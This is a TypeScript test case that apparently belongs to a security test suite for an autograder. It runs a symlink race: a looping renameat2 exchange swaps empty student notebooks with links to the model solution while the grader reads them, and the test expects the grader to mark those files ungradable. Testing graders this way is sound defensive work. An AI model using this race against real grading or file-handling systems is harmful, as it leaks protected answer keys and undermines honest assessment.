import { join } from "node:path";
import { ps1 } from "../../exercises/checks/ps1.ts";
import { sourceOf } from "../../grading/class/model_key.ts";
import { put } from "./class.ts";
import type { Attack } from "./attack.ts";

const FILES = 150;
// Exchanges two folders atomically, again and again: a path is sometimes a file, sometimes a link to the model
// solution.
const SCRIPT = `
const [one, two] = Deno.args.map((path) => new TextEncoder().encode(path + "\\0"));
const parameters = ["i32", "buffer", "i32", "buffer", "u32"], symbols = { renameat2: { parameters, result: "i32" } };
const libc = Deno.dlopen("libc.so.6", symbols).symbols, here = -100, exchange = 2;
console.log("started");
for (;;) libc.renameat2(here, one, here, two, exchange);
`;

/**
 * Replaces notebooks without cells, which are read quickly, with links to the model solution while they are being read.
 */
export const attack: Attack = {
  async folder(folder) {
    for (let n = 100; n < 100 + FILES; n++) {
      await put(join(folder, "mallory", `MARK41-${n}`, "ps1.ipynb"), '{"cells": []}');
      await Deno.mkdir(join(folder, ".links", `MARK41-${n}`), { recursive: true });
      await Deno.symlink(sourceOf(ps1), join(folder, ".links", `MARK41-${n}`, "ps1.ipynb"));
    }
  },
  scores: [[/^mallory/, /^ungradable: (?!Cannot choose)/]], // it would have to choose between what it read by a link
  async meanwhile(folder) {
    const path = join(folder, "..", "exchange.js");
    await Deno.writeTextFile(path, SCRIPT);
    const args = [
      "run",
      "-A",
      "--no-config",
      path,
      join(folder, "mallory"),
      join(folder, ".links"),
    ];
    const child = new Deno.Command(Deno.execPath(), { args, stdout: "piped" }).spawn();
    const output = child.stdout.getReader();
    await output.read(); // it has started
    return async () => {
      child.kill("SIGKILL");
      await Promise.all([child.status, output.cancel()]);
    };
  },
};
